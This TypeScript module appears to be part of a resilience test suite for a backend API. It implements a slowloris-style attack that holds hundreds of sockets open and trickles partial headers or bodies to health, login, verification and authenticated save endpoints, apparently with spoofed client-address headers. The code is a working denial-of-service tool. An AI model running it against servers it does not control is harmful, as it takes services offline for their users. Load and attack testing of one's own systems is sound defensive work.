import { connect, type Socket } from 'node:net'
import { fromAddress, type AttackedStore } from './attacked-store.ts'

export interface Trickle {
  readonly name: string
  readonly connections: number
  /** What each connection sends immediately; the rest follows one byte at a time, without an end. */
  readonly begin: (headers: string, store: AttackedStore) => string
}

const post = (path: string, headers: string) =>
  `POST ${path} HTTP/1.1\r\nHost: orion\r\n${headers}Content-Type: application/json\r\nContent-Length: 5000\r\n\r\n{"a":"`

export const trickles: readonly Trickle[] = [
  { name: 'heads that trickle', connections: 300, begin: () => 'GET /api/health HTTP/1.1\r\nX-A: ' },
  {
    name: 'bodies that trickle, 26',
    connections: 26,
    begin: (headers) => post('/api/collections/users/request-verification', headers),
  },
  {
    name: 'bodies that trickle, 300',
    connections: 300,
    begin: (headers) => post('/api/collections/users/auth-with-password', headers),
  },
  {
    name: 'bodies of saves that trickle, 300',
    connections: 300,
    begin: (headers, { player }) =>
      post('/api/collections/fleets/records', `${headers}Authorization: ${player.session.token}\r\n`),
  },
]

/**
 * Holds as many connections as it can, each of which sends a byte now and then, for some seconds. A connection that is
 * closed is opened again. Returns how many were closed.
 */
export async function trickle(store: AttackedStore, what: Trickle, address: string, seconds: number): Promise<number> {
  const { hostname, port } = new URL(store.url)
  const headers = Object.entries(fromAddress(address))
    .map(([name, value]) => `${name}: ${value}\r\n`)
    .join('')
  const open = new Set<Socket>()
  let [ended, isOver] = [0, false]
  const begin = () => {
    const socket = connect(Number(port), hostname)
    open.add(socket)
    socket.on('error', () => undefined)
    socket.on('data', () => undefined)
    socket.once('close', () => {
      open.delete(socket)
      if (isOver) return
      ended += 1
      setTimeout(() => isOver || begin(), 100)
    })
    socket.write(what.begin(headers, store))
  }
  for (let n = 0; n < what.connections; n += 1) begin()
  const timer = setInterval(() => open.forEach((socket) => socket.write('a')), 500)
  await new Promise((resolve) => setTimeout(resolve, seconds * 1000))
  isOver = true
  clearInterval(timer)
  for (const socket of open) socket.destroy()
  return ended
}
